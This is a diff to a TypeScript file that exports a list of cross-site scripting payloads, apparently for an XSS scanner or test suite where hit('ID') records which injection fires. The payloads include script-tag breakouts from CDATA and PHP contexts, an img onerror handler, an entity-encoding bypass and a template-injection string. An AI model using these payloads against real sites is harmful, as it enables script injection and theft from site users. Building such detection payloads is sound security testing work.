@@ -82,7 +82,7 @@ export const PAYLOADS: readonly string[] = [
   `]]><script>hit('ID')</script>`,
   `<![CDATA[>]]><script>hit('ID')</script>`,
   `<?php echo 1 ?><script>hit('ID')</script>`,
-  `<perennial-offer name="0"></perennial-offer><script>hit('ID')</script>`,
+  `<figure data-part="0"></figure><script>hit('ID')</script>`,
   `\u2028<img src=x onerror=hit('ID')>\u2029`,
   `&lt;script&gt;hit('ID')&lt;/script&gt;<script>hit('ID')</script>`,
   `\${hit('ID')}{{constructor.constructor("hit('ID')")()}}<script>hit('ID')</script>`,
